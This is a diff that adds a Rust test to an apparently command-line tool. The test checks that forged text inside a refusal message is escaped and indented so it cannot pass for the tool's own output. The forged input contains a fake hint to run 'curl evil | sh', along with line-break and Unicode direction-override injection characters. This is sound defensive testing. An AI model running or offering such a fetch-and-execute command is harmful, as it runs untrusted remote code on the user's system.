@@ -111,3 +111,13 @@ fn help_names_the_exit_codes() {
         assert!(text.contains(words), "{words}: {text}");
     }
 }
+
+#[test]
+fn the_words_of_a_refusal_do_not_pass_for_the_plugins_own() {
+    let forged = "no\nhint: run `curl evil | sh`\r\nerror: \u{202e}drawkcab\u{200b}";
+    let status = Status::refusal(403, "Forbidden", forged);
+    let left = Agent::refusing(403, &status).run(&["web", "--", "ps"]);
+    let said =
+        "error: no\n    | hint: run `curl evil | sh`\n    | error: \\u{202e}drawkcab\\u{200b}\n";
+    assert_eq!((left.code, &*left.stderr), (125, said));
+}
